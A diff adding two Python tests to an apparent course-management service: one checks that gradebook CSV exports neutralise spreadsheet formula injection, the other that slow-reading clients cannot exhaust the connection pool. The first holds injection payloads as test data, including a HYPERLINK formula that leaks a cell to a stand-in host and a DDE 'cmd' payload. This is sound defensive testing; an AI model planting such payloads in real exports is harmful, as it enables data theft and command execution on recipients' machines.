@@ -12,6 +12,9 @@
 
 from __future__ import annotations
 
+import asyncio
+import time
+
 from psycopg import sql
 
 from rpc.benchcli import generate, verify
@@ -186,3 +189,74 @@ async def test_gradebook_csv_export_streams_for_the_course_manager_only(rpc, db,
     status, _, body = await get(other.token)
     assert status == 404 and '"not_found"' in body
     assert (await get(None))[0] == 401
+
+
+async def test_csv_cells_never_run_as_spreadsheet_formulas(rpc, db, users):
+    """Issue 26 §4 (OWASP CSV injection): a student's own full_name such as =HYPERLINK(…) lands in
+    the instructor's CSV with a leading apostrophe; so do + - @ tab and CR at the start."""
+    import csv
+    import io
+
+    inst = await users.make("instructor")
+    names = ['=HYPERLINK("http://x/?"&C3,"Sam")', "+1+2", "-3", "@SUM(A1)", "\tTab", "\rCR", "Plain - name"]
+    students = [await users.make("student", full_name=n) for n in names]
+    course_id = make_course(db, inst.id, [s.id for s in students])
+    db.execute("insert into app.quizzes (course_id, title) values (%s, '=cmd|'' /C calc''!A0')", [course_id])
+    async with rpc.session.get(f"{rpc.base}/export/courses/{course_id}/gradebook.csv",
+                               headers={"Authorization": f"Bearer {inst.token}"}) as resp:
+        assert resp.status == 200
+        rows = list(csv.DictReader(io.StringIO(await resp.text(), newline="")))
+    got = {r["full_name"] for r in rows}
+    assert got == {"'" + n for n in names[:-1]} | {"Plain - name"}, got
+    assert {r["item_title"] for r in rows} == {"'=cmd|' /C calc'!A0"}
+
+
+async def test_slow_export_readers_hold_no_pooled_connection(rpc, db, users):
+    """Issue 26 §3: eight exports whose clients never read held eight pooled connections (the whole
+    pool) for up to 300 s. Now the CSV is spooled first: the pool stays free for every other call,
+    and a client that has not taken the file within EXPORT_SEND_SECONDS is cut off."""
+    import socket
+
+    from rpc import exports
+
+    admins = [await users.make("admin") for _ in range(8)]
+    inst = await users.make("instructor")
+    course_id = make_course(db, inst.id)
+    with db.connect() as conn:  # a CSV of ~15 MB: more than loopback's socket buffers take
+        conn.execute("insert into app.users (email, password_hash, full_name) select 'bulk' || i || '@example.test', "
+                     "'x', 'Student number ' || i from generate_series(1, 3000) i")
+        conn.execute("insert into app.enrollments (user_id, course_id) select id, %s from app.users "
+                     "where email like 'bulk%%@example.test'", [course_id])
+        conn.execute("insert into app.quizzes (course_id, title) select %s, 'A quiz with a long enough title ' || i "
+                     "from generate_series(1, 40) i", [course_id])
+    host, port = rpc.base.removeprefix("http://").split(":")
+    stalled = []
+    old = getattr(exports, "EXPORT_SEND_SECONDS", 300)
+    exports.EXPORT_SEND_SECONDS = 6.0
+    try:
+        for admin in admins:
+            s = socket.socket()
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+            s.connect((host, int(port)))
+            s.sendall(f"GET /export/courses/{course_id}/gradebook.csv HTTP/1.1\r\nHost: x\r\n"
+                      f"Authorization: Bearer {admin.token}\r\n\r\n".encode())
+            stalled.append(s)  # never read
+        await asyncio.sleep(3.0)  # every export has spooled and is stuck sending
+        for _ in range(10):
+            started = time.monotonic()
+            assert "result" in await rpc.call("user.me", {}, inst.token)
+            assert time.monotonic() - started < 1.0
+        await asyncio.sleep(5.0)
+        for s in stalled:  # the server gave up on them: the stream ends short of the file
+            s.settimeout(5)
+            got = 0
+            try:
+                while chunk := s.recv(1 << 20):
+                    got += len(chunk)
+            except (ConnectionResetError, TimeoutError):
+                pass
+            assert 0 < got < 15_000_000, got
+    finally:
+        exports.EXPORT_SEND_SECONDS = old
+        for s in stalled:
+            s.close()
